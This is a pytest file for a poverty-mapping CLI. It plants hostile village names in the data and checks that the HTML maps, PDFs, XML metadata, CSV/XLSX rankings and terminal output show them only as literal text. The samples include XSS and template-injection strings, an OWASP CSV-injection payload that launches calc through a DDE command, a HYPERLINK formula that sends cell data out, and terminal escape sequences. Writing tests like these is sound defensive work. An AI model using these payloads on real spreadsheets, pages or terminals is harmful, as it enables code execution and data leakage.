"""Text from files and options is data in every output: never a template, a formula or bad XML.

Issue #9, kinds 1, 3 and 4, on the real Lahat layer (378 desa) with hostile names planted in a
cluster of poor desa, so that they reach the pocket layer and the top of the priority table too.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import matplotlib
import pandas as pd
import pyogrio
import pytest
from click.testing import CliRunner
from conftest import LAHAT_DESA, make_counts, need
from matplotlib.text import Text

from povmap.cli import main

#: Desa names that a template engine, a browser or an XML parser would take for code.
NAMES = (
    "Desa {{7*7}}",
    "Desa {% raw %}",
    "Desa {# lama",
    "</script><script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "Desa ]]> <!-- x",
    "Desa $x^2$",
)
#: The desa left without a row, so the join report names it.
UNMATCHED = "Desa {{ 3*3 }} </script>"
KECAMATAN = "Kec {{ 6*7 }} {% raw %}"
KABUPATEN = "Kab {# {{8*8}} ]]>"
TITLE = "Judul {{ 6*7 }} {# $y^2$ </script><!--"
SOURCE = "Sumber {% raw %} ]]> \"'><b>x</b>"
VINTAGE = "P3KE {{ 2024 }}"
ORGANISASI = "Dinas {{7*7}} ]]> <x> & Co"
COUNTS_NAME = "jumlah {{7*7}}.csv"

GMD = "{http://www.isotc211.org/2005/gmd}"
GCO = "{http://www.isotc211.org/2005/gco}"
SLD = "{http://www.opengis.net/sld}"


def lahat_with(
    names: tuple[str, ...],
    tmp: Path,
    *,
    kecamatan: str | None = None,
    kabupaten: str | None = None,
    unmatched: str | None = None,
    counts_name: str = "jumlah.csv",
) -> tuple[Path, Path, pd.DataFrame]:
    """Lahat with ``names`` on desa of a poor cluster (two kecamatan); boundary and counts paths.

    The first poor kecamatan is renamed ``kecamatan``, the kabupaten ``kabupaten``; a desa
    outside the cluster is named ``unmatched`` and left without a row in the counts.
    """
    raw = gpd.read_file(need(LAHAT_DESA))
    counts = make_counts(raw, seed=3)
    poor_kec = sorted(raw["kode_kec"].unique())[:2]
    hot = raw["kode_kec"].isin(poor_kec).to_numpy()
    counts.loc[hot, "jumlah_miskin_ekstrem"] = (counts.loc[hot, "jumlah_penduduk"] * 0.3).astype(
        int
    )
    hot_rows = raw.index[hot][: len(names)]
    raw.loc[hot_rows, "nama"] = list(names)
    counts.loc[hot_rows, "nama_desa"] = list(names)
    if kecamatan:
        raw.loc[raw["kode_kec"] == poor_kec[0], "nama_kec"] = kecamatan
        counts.loc[raw["kode_kec"] == poor_kec[0], "nama_kecamatan"] = kecamatan
    if kabupaten:
        raw["nama_kab"] = kabupaten
    if unmatched:
        cold = raw.index[~hot][-1]
        raw.loc[cold, "nama"] = unmatched
        counts = counts.drop(index=cold)
    boundaries, table = tmp / "lahat.geojson", tmp / counts_name
    raw.to_file(boundaries)
    counts.to_csv(table, index=False)
    return boundaries, table, raw


def cli(*args: object) -> None:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    assert "Galat tak terduga" not in result.output


def pdf_texts(path: Path) -> list[str]:
    """The text of each ``BT ... ET`` block of an uncompressed matplotlib PDF (Type 3 fonts)."""
    data = path.read_bytes()
    escapes = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}

    def unescape(match: re.Match[bytes]) -> bytes:
        code = match.group(1)
        if code[:1].isdigit():
            return bytes([int(code, 8)])
        return escapes.get(code, code)

    texts = []
    for block in re.findall(rb"\bBT\b(.*?)\bET\b", data, re.S):
        parts = re.findall(rb"\(((?:[^()\\]|\\.)*)\)", block, re.S)
        raw = b"".join(re.sub(rb"\\([0-7]{1,3}|.)", unescape, p, flags=re.S) for p in parts)
        texts.append(raw.decode("latin-1"))
    return texts


class _Text(HTMLParser):
    """Text inside elements of a given class (e.g. the map title box)."""

    def __init__(self, css_class: str):
        super().__init__()
        self.css_class, self.depth, self.parts = css_class, 0, []

    def handle_starttag(self, tag, attrs):
        if self.depth:
            self.depth += 1
        elif self.css_class in (dict(attrs).get("class") or "").split():
            self.depth = 1

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= 1

    def handle_data(self, data):
        if self.depth:
            self.parts.append(data)


def text_of(page: str, css_class: str) -> str:
    parser = _Text(css_class)
    parser.feed(page)
    return "".join(parser.parts)


def script_vars(page: str) -> dict[str, object]:
    """The JSON data the page's scripts assign (``var name = {...};`` / ``[...]``)."""
    found = {}
    for name, value in re.findall(r"var (\w+) = ([\[{].*?);\n", page):
        try:
            found[name] = json.loads(value)
        except ValueError:
            continue
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    boundaries, counts, raw = lahat_with(
        NAMES,
        tmp,
        kecamatan=KECAMATAN,
        kabupaten=KABUPATEN,
        unmatched=UNMATCHED,
        counts_name=COUNTS_NAME,
    )
    return tmp, boundaries, counts, raw


@pytest.fixture(scope="module")
def html_map(hostile):
    tmp, boundaries, counts, _ = hostile
    out = tmp / "peta.html"
    cli(
        "map",
        boundaries,
        counts,
        "-o",
        out,
        "--kantong",
        "--tiles",
        "none",
        "--title",
        TITLE,
        "--source",
        SOURCE,
        "--vintage",
        VINTAGE,
    )
    return out


def test_html_map_shows_every_text_literally(html_map):
    page = html_map.read_text(encoding="utf-8")
    # Evaluated templates would have written these.
    assert "Desa 49" not in page and "Judul 42" not in page and "Kec 42" not in page
    # Nothing from the data opens an element or a comment, anywhere in the page.
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "<!-- x" not in page and "]]>" not in page
    assert text_of(page, "povmap-title") == TITLE
    foot = text_of(page, "povmap-foot")
    assert f"Sumber: {SOURCE}" in foot and f"Periode data: {VINTAGE}" in foot

    data = script_vars(page)
    props = next(v for k, v in data.items() if k.endswith("_props"))
    desa = props["desa"]
    for name in NAMES:
        assert html.escape(name) in desa["t0"]  # tooltip/popup text: escaped HTML
        assert any(s.startswith(f"{name}, ") for s in desa["s"])  # search: raw text
    assert html.escape(UNMATCHED) in desa["t0"]
    # The desa popup says the pocket status (most of the planted desa are in the pocket); the
    # pocket outlines carry no text at all.
    status = next(v for v in desa.values() if "Kantong kemiskinan (tinggi dikelilingi tinggi)" in v)
    planted = [status[desa["t0"].index(html.escape(n))] for n in NAMES]
    assert sum(p.startswith("Kantong kemiskinan") for p in planted) >= 5
    assert list(props["kantong"]) == ["k"]
    # Search keys are folded names: lower-case letters, digits and spaces only.
    assert all(re.fullmatch(r"[a-z0-9 ]*", q) for q in desa["q"])
    assert html.escape(KECAMATAN) in desa["t1"]
    assert any(s == f"{NAMES[0]}, {KECAMATAN}" for s in desa["s"])
    assert html.escape(KECAMATAN) in props["kecamatan"]["t0"]  # the kecamatan layer
    # Kecamatan labels and the zoom box carry the name as JSON text (shown with textContent).
    lists = [v for v in data.values() if isinstance(v, list)]
    assert any(item[0] == KECAMATAN for v in lists for item in v if isinstance(item, list))


def test_static_titles_and_names_are_not_mathematics(hostile, tmp_path):
    _, boundaries, counts, _ = hostile
    with matplotlib.rc_context({"pdf.compression": 0}):
        cli(
            "map",
            boundaries,
            counts,
            "-o",
            tmp_path / "peta.pdf",
            "--atlas",
            tmp_path / "atlas.pdf",
            "--title",
            TITLE,
            "--source",
            SOURCE,
            "--vintage",
            VINTAGE,
        )
    page = " ".join(pdf_texts(tmp_path / "peta.pdf"))
    assert TITLE in page and SOURCE in page and VINTAGE in page
    # The overview drops names that would collide (largest kecamatan first), so the hostile one
    # may be left out there; evaluated, it would read "Kec 42". Every atlas page names its own.
    assert "Kec 42" not in page and "Judul 42" not in page
    atlas = " ".join(pdf_texts(tmp_path / "atlas.pdf"))
    assert TITLE in atlas and KECAMATAN in atlas
    # Desa labels on the kecamatan pages: names that would collide are left out, so check the
    # ones the atlas placed (same inputs through the API), which must be at least half.
    from povmap.pipeline import Options, run
    from povmap.render.static import LABEL_GID, atlas_pages

    result = run(boundaries, counts, Options())
    # Haloed labels reach the PDF as outlines, not text: check what the pages drew them with.
    placed = {
        t.get_text(): t
        for fig in atlas_pages(result.classified(), kecamatan=result.layers["kecamatan"])
        for t in fig.findobj(Text)
        if t.get_gid() == LABEL_GID
    }
    shown = [name for name in NAMES if name in placed]
    assert len(shown) >= len(NAMES) // 2, shown
    for name in shown:
        assert not placed[name].get_parse_math() and not placed[name].get_usetex()
    assert "Desa 49" not in atlas


def test_static_png_draws_texts_as_written(hostile):
    from povmap.pipeline import Options, run
    from povmap.render import static_map

    _, boundaries, counts, _ = hostile
    result = run(boundaries, counts, Options())
    fig = static_map(
        result.classified(), kecamatan=result.layers["kecamatan"], title=TITLE, source=SOURCE
    )
    texts = {t.get_text(): t for t in fig.findobj(Text) if t.get_text()}
    for text in (TITLE, KECAMATAN):
        assert text in texts
        assert not texts[text].get_parse_math() and not texts[text].get_usetex()


@pytest.fixture(scope="module")
def bundle(hostile):
    tmp, boundaries, counts, _ = hostile
    meta = tmp / "meta.toml"
    meta.write_text(
        f"organisasi = {json.dumps(ORGANISASI)}\n"
        f"kata_kunci = [{json.dumps(NAMES[0])}, {json.dumps(NAMES[5])}]\n",
        encoding="utf-8",
    )
    out = tmp / "bundel"
    cli(
        "export",
        boundaries,
        counts,
        "-o",
        out,
        "--format",
        "geojson,gpkg,shp",
        "--title",
        TITLE,
        "--vintage",
        VINTAGE,
        "--metadata",
        meta,
    )
    return out


def test_geojson_and_gpkg_hold_names_literally(bundle):
    for path in (bundle / "desa.geojson", bundle / "povmap.gpkg"):
        desa = pyogrio.read_dataframe(path, layer="desa", read_geometry=False)
        values = set(desa.astype(str).to_numpy().ravel())
        assert set(NAMES) | {UNMATCHED, KECAMATAN, KABUPATEN} <= values, path
    data = json.loads((bundle / "desa.geojson").read_text(encoding="utf-8"))
    assert data["description"] == f"{TITLE} (desa/kelurahan)"


def test_styles_and_metadata_parse_and_hold_text_literally(bundle):
    sld = ET.parse(bundle / "desa.sld").getroot()
    assert sld.find(f".//{SLD}UserStyle/{SLD}Title").text == f"{TITLE} (desa/kelurahan)"
    ET.parse(bundle / "desa.qml")
    meta = ET.parse(bundle / "desa.xml").getroot()
    texts = [e.text for e in meta.iter(f"{GCO}CharacterString")]
    assert f"{TITLE} (desa/kelurahan)" in texts
    assert ORGANISASI in texts and VINTAGE in texts
    assert NAMES[0] in texts and NAMES[5] in texts  # keywords from the metadata file
    assert KABUPATEN in texts  # place keyword from the data
    assert any(KABUPATEN in t and COUNTS_NAME in t for t in texts)  # abstract


def test_dictionary_and_report_hold_text_literally(bundle):
    with open(bundle / "kamus_data.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert any(r["sumber"] == f"Tabel jumlah ({COUNTS_NAME})" for r in rows)
    report = json.loads((bundle / "laporan_penggabungan.json").read_text(encoding="utf-8"))
    assert UNMATCHED in json.dumps(report["unmatched_boundaries"], ensure_ascii=False)


def test_join_report_holds_names_literally(hostile):
    tmp, boundaries, counts, _ = hostile
    report = tmp / "laporan.json"
    cli("join", boundaries, counts, "-o", tmp / "gabung.gpkg", "--report", report)
    data = json.loads(report.read_text(encoding="utf-8"))
    assert [r.get("nama_desa") for r in data["unmatched_boundaries"]] == [UNMATCHED]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_pockets_ranking_holds_names_literally(hostile, suffix):
    tmp, boundaries, counts, _ = hostile
    ranking = tmp / f"peringkat{suffix}"
    cli("pockets", boundaries, counts, "-o", tmp / "kantong.geojson", "--ranking", ranking)
    table = pd.read_csv(ranking) if suffix == ".csv" else pd.read_excel(ranking)
    assert set(NAMES) <= set(table["nama_desa"])
    flagged = pyogrio.read_dataframe(tmp / "kantong.geojson", read_geometry=False)
    assert len(set(NAMES) & set(flagged["nama_desa"])) >= 5


@pytest.mark.browser
def test_browser_shows_names_as_text_and_runs_nothing(browser, html_map):
    page = browser.new_page(viewport={"width": 1100, "height": 750})
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.route(
        "**/*",
        lambda r: r.continue_() if r.request.url.startswith(("file:", "data:")) else r.abort(),
    )
    page.goto(html_map.as_uri(), wait_until="load")
    page.wait_for_timeout(300)
    assert page.locator(".povmap-title").inner_text() == TITLE
    for name in NAMES:
        # Hover the desa through Leaflet's API (canvas paths have no DOM element to hover).
        page.evaluate(
            """(name) => {
            for (const v of Object.values(window)) {
                if (!(v instanceof L.GeoJSON) || !v._map) continue;
                for (const l of v.getLayers()) {
                    const p = l.feature.properties;
                    if ('s' in p && p.s.startsWith(name + ', ')) {
                        const c = l.getCenter();
                        l.fire('mouseover', {latlng: c,
                            layerPoint: v._map.latLngToLayerPoint(c),
                            containerPoint: v._map.latLngToContainerPoint(c)}, true);
                        return;
                    }
                }
            }
        }""",
            name,
        )
        assert name in page.locator(".leaflet-tooltip").last.inner_text()
    search = page.locator(".leaflet-control-search input.search-input")
    tips = page.locator(".leaflet-control-search .search-tip")
    for query, name in (("Desa {", NAMES[0]), ("</scr", NAMES[3]), ("\"'>", NAMES[4])):
        search.fill("")
        search.press_sequentially(query)
        tip = tips.filter(has_text=f"{name}, {KECAMATAN}").first
        tip.wait_for(timeout=5000)
        assert tip.inner_text() == f"{name}, {KECAMATAN}"
    search.fill("")
    options = page.locator(".povmap-zoom select option").all_inner_texts()
    assert KECAMATAN in options
    assert (
        page.locator(".leaflet-tooltip img, .povmap-title script, .leaflet-popup img").count() == 0
    )
    assert dialogs == [] and errors == []
    page.close()


# --- kind 3: spreadsheet formulas ------------------------------------------------------------

#: Names a spreadsheet would run (OWASP CSV Injection).
FORMULAS = (
    "=1+2 Desa",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
)
#: A tab or carriage return in front: the boundary reader trims them, a layer built in Python
#: keeps them.
FORMULAS_WS = ("\t=1+1", "\r=2+2")


@pytest.fixture(scope="module")
def formula_pockets(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formula")
    boundaries, counts, _ = lahat_with(FORMULAS, tmp, kecamatan="=KEC()+1")
    paths = {}
    for suffix in (".csv", ".xlsx"):
        paths[suffix] = tmp / f"peringkat{suffix}"
        cli(
            "pockets",
            boundaries,
            counts,
            "-o",
            tmp / f"kantong{suffix}.geojson",
            "--ranking",
            paths[suffix],
        )
    return paths, boundaries, counts


def test_csv_ranking_prefixes_formula_text_and_keeps_numbers(formula_pockets):
    paths, _, _ = formula_pockets
    with open(paths[".csv"], encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    names = [r["nama_desa"] for r in rows]
    for name in FORMULAS:
        assert "'" + name in names and name not in names
    assert "'=KEC()+1" in {r["nama_kecamatan"] for r in rows}
    numeric = pd.read_csv(paths[".csv"]).select_dtypes("number").columns
    texts = [v for r in rows for k, v in r.items() if k not in numeric]
    assert not [t for t in texts if t and t[0] in "=+-@\t\r"]  # no text cell starts a formula
    table = pd.read_csv(paths[".csv"])
    assert pd.api.types.is_integer_dtype(table["prioritas"])
    assert pd.api.types.is_float_dtype(table["persen_miskin_ekstrem"])
    assert list(table["prioritas"]) == list(range(1, len(table) + 1))
    negative = [c for c in numeric if (table[c] < 0).any()]
    assert negative  # e.g. z-scores: negative numbers are written as numbers, no quote
    assert not [r[c] for r in rows for c in negative if r[c].startswith("'")]


def test_xlsx_ranking_stores_formula_text_as_text(formula_pockets):
    import openpyxl

    paths, _, _ = formula_pockets
    sheet = openpyxl.load_workbook(paths[".xlsx"]).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    header = [c.value for c in next(sheet.iter_rows())]
    by_name = {c.value: c for c in cells if c.column == header.index("nama_desa") + 1}
    for name in FORMULAS:
        assert by_name[name].data_type == "s" and by_name[name].quotePrefix
    assert set(FORMULAS) <= set(pd.read_excel(paths[".xlsx"])["nama_desa"])
    numbers = [c for c in cells if c.column == header.index("jumlah_miskin_ekstrem") + 1][1:]
    assert numbers and all(c.data_type == "n" and isinstance(c.value, int) for c in numbers)


def _pockets_of_layer(boundaries: Path, counts: Path, names: dict[int, str]):
    """Pockets found on a layer whose desa names were set in Python (no reader in between)."""
    from povmap.pipeline import Options, run
    from povmap.pockets import find_pockets

    layer = run(boundaries, counts, Options()).main.copy()
    for position, name in names.items():
        layer.iloc[position, layer.columns.get_loc("nama_desa")] = name
    return find_pockets(layer, permutations=99)


def test_tab_and_cr_names_are_neutralised_too(formula_pockets, tmp_path):
    import openpyxl

    from povmap.export.pockets import write_pockets

    _, boundaries, counts = formula_pockets
    result = _pockets_of_layer(boundaries, counts, dict(enumerate(FORMULAS_WS)))
    write_pockets(result, tmp_path / "k.geojson", ranking=tmp_path / "r.csv")
    write_pockets(result, tmp_path / "k.gpkg", ranking=tmp_path / "r.xlsx")
    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as f:
        names = [r["nama_desa"] for r in csv.DictReader(f)]
    for name in FORMULAS_WS:
        assert "'" + name in names
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    # XML reads a carriage return back as a line feed (XML 1.0 §2.11).
    expected = {n.replace("\r", "\n") for n in FORMULAS_WS}
    found = {c.value: c for row in sheet.iter_rows() for c in row if c.value in expected}
    assert set(found) == expected
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_data_dictionary_neutralises_text_cells(tmp_path):
    from povmap.export.kugi import write_dictionary

    rows = [
        {
            "lapisan": "desa",
            "field": "=1+2",
            "tipe": "String",
            "satuan": "-",
            "keterangan": "@cmd",
            "sumber": "Tabel jumlah (+x.csv)",
        }
    ]
    path = write_dictionary(tmp_path / "kamus.csv", rows)
    with open(path, encoding="utf-8-sig", newline="") as f:
        written = list(csv.DictReader(f))
    assert written == [
        {
            "lapisan": "desa",
            "field": "'=1+2",
            "tipe": "String",
            "satuan": "-",
            "keterangan": "'@cmd",
            "sumber": "Tabel jumlah (+x.csv)",
        }
    ]


# --- kind 4: characters XML 1.0 forbids ------------------------------------------------------

#: Names with control characters as a layer built in Python can hold them (the boundary reader
#: turns \x0b into a space and refuses the others as a sign of a wrong encoding).
CONTROL_NAMES = ("Desa\x0bBaru", "Desa\x01Lama", "Desa\x1fNol\x0cSatu")
CLEANED = ("Desa Baru", "DesaLama", "Desa Nol Satu")


def _parse_every_xml(folder: Path) -> dict[str, ET.Element]:
    """Parse every XML file of a bundle folder and of its shapefile zips (raises if one fails)."""
    import zipfile

    parsed = {
        p.name: ET.parse(p).getroot()
        for p in sorted(folder.iterdir())
        if p.suffix in (".xml", ".sld", ".qml")
    }
    for archive in folder.glob("*.zip"):
        with zipfile.ZipFile(archive) as z:
            for name in z.namelist():
                if name.endswith((".xml", ".sld", ".qml")):
                    parsed[f"{archive.name}/{name}"] = ET.fromstring(z.read(name))
    return parsed


def test_xml_outputs_parse_with_control_characters_in_options_and_metadata(tmp_path):
    boundaries, counts, _ = lahat_with((), tmp_path, kabupaten="Lahat\x0bKab")
    meta = tmp_path / "meta.toml"
    meta.write_text(
        'organisasi = "Dinas\\u000bSosial"\njudul = "Judul\\u0001"\n'
        'kata_kunci = ["a\\u0002b"]\nlisensi = "CC\\u001fBY"\n',
        encoding="utf-8",
    )
    out = tmp_path / "bundel"
    cli(
        "export",
        boundaries,
        counts,
        "-o",
        out,
        "--format",
        "geojson,gpkg,shp",
        "--metadata",
        meta,
        "--title",
        "Peta\x0bKemiskinan",
        "--vintage",
        "P3KE\x032024",
    )
    parsed = _parse_every_xml(out)
    assert {
        "desa.xml",
        "kecamatan.xml",
        "desa.sld",
        "desa.qml",
        "desa_shp.zip/desa.xml",
        "desa_shp.zip/desa.sld",
    } <= set(parsed)
    texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
    assert "Dinas Sosial" in texts and "Judul" in texts and "ab" in texts
    assert "CC BY" in texts and "P3KE2024" in texts
    assert "Lahat Kab" in texts  # the place keyword
    title = parsed["desa.sld"].find(f".//{SLD}UserStyle/{SLD}Title").text
    assert title == "Peta Kemiskinan (desa/kelurahan)"


def test_xml_outputs_parse_with_control_characters_in_names(formula_pockets, tmp_path):
    from povmap.export import export
    from povmap.pipeline import Options, run

    _, boundaries, counts = formula_pockets
    result = run(boundaries, counts, Options())
    desa, kecamatan = result.main.copy(), result.layers["kecamatan"].copy()
    for position, name in enumerate(CONTROL_NAMES):
        desa.iloc[position, desa.columns.get_loc("nama_desa")] = name
    desa["nama_kabupaten"] = "Lahat\x08\x0bKab"
    kecamatan["nama_kabupaten"] = "Lahat\x08\x0bKab"
    kecamatan.iloc[0, kecamatan.columns.get_loc("nama_kecamatan")] = "Kec\x07Satu"
    out = tmp_path / "bundel"
    # The desa layer keeps its classes (styles are written), the kecamatan layer goes unstyled.
    classified = dataclasses.replace(result.classified(), gdf=desa)
    export(
        {"desa": classified, "kecamatan": kecamatan},
        out,
        formats=("geojson", "shp"),
        title="Judul\x0c2024",
    )
    parsed = _parse_every_xml(out)
    assert {"desa.xml", "desa.sld", "desa.qml", "kecamatan.xml"} <= set(parsed)
    texts = [e.text for e in parsed["desa.xml"].iter(f"{GCO}CharacterString")]
    assert "Lahat Kab" in texts and "Judul 2024 (desa/kelurahan)" in texts
    data = json.loads((out / "desa.geojson").read_text(encoding="utf-8"))
    assert set(CONTROL_NAMES) <= {f["properties"]["NAMOBJ"] for f in data["features"]}


def test_xlsx_ranking_with_control_characters(formula_pockets, tmp_path):
    import openpyxl

    from povmap.export.pockets import write_pockets

    _, boundaries, counts = formula_pockets
    result = _pockets_of_layer(boundaries, counts, dict(enumerate(CONTROL_NAMES)))
    ranking = tmp_path / "peringkat.xlsx"
    write_pockets(result, tmp_path / "k.gpkg", ranking=ranking)
    names = {
        c.value
        for row in openpyxl.load_workbook(ranking).active.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    assert set(CLEANED) <= names


# --- text from data on the terminal ----------------------------------------------------------

ESCAPE_NAME = "Desa\x1b]0;DIAMBIL\x07\x1b[2J"


def test_terminal_shows_escape_sequences_instead_of_running_them(tmp_path):
    boundaries, counts, _ = lahat_with((), tmp_path)
    table = pd.read_csv(counts, dtype={"kode_wilayah": str})
    extra = table.iloc[[0]].assign(
        kode_wilayah="16.04.99.2999", nama_desa=ESCAPE_NAME, nama_kecamatan="Kec\x1b[31mMerah"
    )
    pd.concat([table, extra]).to_csv(counts, index=False)
    result = CliRunner().invoke(
        main, ["join", str(boundaries), str(counts), "-o", str(tmp_path / "gabung.gpkg")]
    )
    assert result.exit_code == 0, result.output
    assert "baris" in result.output and "16.04.99.2999" in result.output  # the row is reported
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b]0;DIAMBIL\\x07" in result.output
    missing = tmp_path / "tidak\x1b]0;ada\x07.csv"
    result = CliRunner().invoke(
        main, ["join", str(boundaries), str(missing), "-o", str(tmp_path / "x.gpkg")]
    )
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "tidak\\x1b]0;ada\\x07.csv" in result.output
